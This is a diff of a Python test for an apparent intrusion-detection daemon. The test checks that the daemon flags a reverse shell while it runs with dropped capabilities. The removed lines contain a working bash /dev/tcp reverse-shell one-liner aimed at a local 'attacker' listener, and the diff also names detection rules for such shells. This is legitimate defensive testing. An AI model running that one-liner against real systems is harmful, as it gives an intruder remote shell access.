@@ -13,7 +13,6 @@ import ctypes.util
 import json
 import os
 import shutil
-import signal
 import subprocess
 import sys
 import uuid
@@ -225,8 +224,8 @@ def test_the_daemon_detects_with_only_the_units_capabilities():
     require(caps <= bounding_set(), f"this host lacks some of {sorted(caps)}")
     import urllib.request
 
-    from tests.fixtures.daemon import Daemon, by_pid
-    from tests.fixtures.network import listener, wait_until
+    from tests.fixtures.daemon import Daemon
+    from tests.fixtures.network import listener, reverse_shell
 
     drop = ",".join(sorted(bounding_set() - caps))
     guard = Daemon(wrapper=("capsh", f"--drop={drop}", "--", "-c", 'exec "$0" "$@"'))
@@ -237,24 +236,10 @@ def test_the_daemon_detects_with_only_the_units_capabilities():
         assert int(effective, 16).bit_count() == len(caps)  # capsh did drop the rest
 
         with listener("127.0.6.7", 0) as attacker:
-            shell = subprocess.Popen(
-                ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
-                 "bash", "-c", f"bash -i >& /dev/tcp/127.0.6.7/{attacker.port} 0>&1"],
-                stderr=subprocess.DEVNULL, start_new_session=True,
-            )  # fmt: skip
-            try:
-                wait_until(lambda: attacker.accepted)
-                guard.wait_alert(by_pid(shell.pid, "shell-dev-tcp-redirect"))
-                stdio = guard.wait_alert(
-                    lambda r: (
-                        r["rule"] == "shell-stdio-socket"
-                        and r.get("network", {}).get("daddr") == "127.0.6.7"
-                    )
-                )
+            nobody = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
+            with reverse_shell(attacker, prefix=nobody) as shell:
+                stdio = guard.wait_reverse_shell_alerts(shell.pid, "127.0.6.7")
                 assert stdio["process"]["uid"] == 65534
-            finally:
-                os.killpg(shell.pid, signal.SIGKILL)
-                shell.wait()
 
         url = f"http://127.0.0.1:{guard.metrics_port}/metrics"
         with urllib.request.urlopen(url, timeout=30) as resp:
